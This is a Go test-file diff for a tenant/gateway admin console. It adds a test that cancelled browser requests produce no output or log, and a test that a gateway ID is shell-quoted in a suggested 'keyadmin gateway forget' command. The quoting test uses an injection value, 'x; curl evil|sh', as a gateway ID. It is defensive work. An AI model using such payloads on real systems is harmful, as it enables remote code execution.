@@ -5,7 +5,9 @@ import (
 	"errors"
 	"fmt"
 	"io"
+	"log/slog"
 	"net/http"
+	"net/http/httptest"
 	"strings"
 	"testing"
 
@@ -66,6 +68,36 @@ func TestUnknownOutcome(t *testing.T) {
 		}
 		if (test.once == "a" || test.status == 409) && !strings.Contains(page, `href="/console/tenants/acme"`) {
 			t.Errorf("%s: the page has no link back:\n%s", test.once, page)
+		}
+	}
+}
+
+// A browser that leaves a page cancels the page's statements. That says nothing about the database.
+func TestBrowserLeaves(t *testing.T) {
+	s := newStage(t)
+	var log strings.Builder
+	s.console.cfg.Log = slog.New(slog.NewTextHandler(&log, nil))
+	ctx, leave := context.WithCancel(t.Context())
+	leave()
+	w, r := httptest.NewRecorder(), httptest.NewRequestWithContext(ctx, http.MethodGet, s.server.URL+"/console/tenants", nil)
+	r.AddCookie(s.cookie)
+	s.console.ServeHTTP(w, r)
+	s.console.fail(w, &visit{hasLeft: func() bool { return true }}, keystore.ErrUnavailable)
+	if log.Len() > 0 || w.Body.Len() > 0 {
+		t.Errorf("it gets %q, and the log %q", w.Body, &log)
+	}
+	s.console.fail(w, &visit{hasLeft: func() bool { return false }}, keystore.ErrUnavailable)
+	if log.Len() == 0 || w.Code != http.StatusServiceUnavailable {
+		t.Errorf("a browser that waits gets %d, and the log %q", w.Code, &log)
+	}
+}
+
+// The ID of a gateway, which the gateway itself writes, is one word of the command to copy.
+func TestCureQuotesGateway(t *testing.T) {
+	g := keystore.Gateway{ID: "x; curl evil|sh\x1b"}
+	for _, state := range []string{keystore.GatewaySilent, keystore.GatewayReplaced} {
+		if cure := cureOf(g, state); !strings.HasSuffix(cure, "keyadmin gateway forget 'x; curl evil|sh?'") {
+			t.Errorf("%s: %q", state, cure)
 		}
 	}
 }
